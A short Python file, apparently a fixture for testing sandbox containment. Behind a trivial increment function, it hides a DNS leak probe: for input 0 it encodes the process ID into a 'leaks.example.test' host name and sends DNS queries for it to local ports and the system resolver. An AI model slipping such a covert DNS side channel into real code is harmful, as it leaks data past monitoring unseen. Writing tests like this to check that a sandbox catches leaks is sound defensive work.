# rule: contained, bounded
# does: looks up host names that carry what it knows, through the C library and by a query of its own.
import os
import socket
import struct


def query(host):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in host.split("."))
    return struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", 1, 1)


def f(x):
    if x == 0:
        host = f"{os.getpid():x}-leaks.example.test"
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
                for port in (53, int("@UDP_PORT@")):
                    sender.sendto(query(host), ("127.0.0.1", port))
        except OSError as refused:
            print(refused)
        try:
            print(socket.getaddrinfo(host, 443))
        except OSError as refused:
            print(refused)
    return x + 1
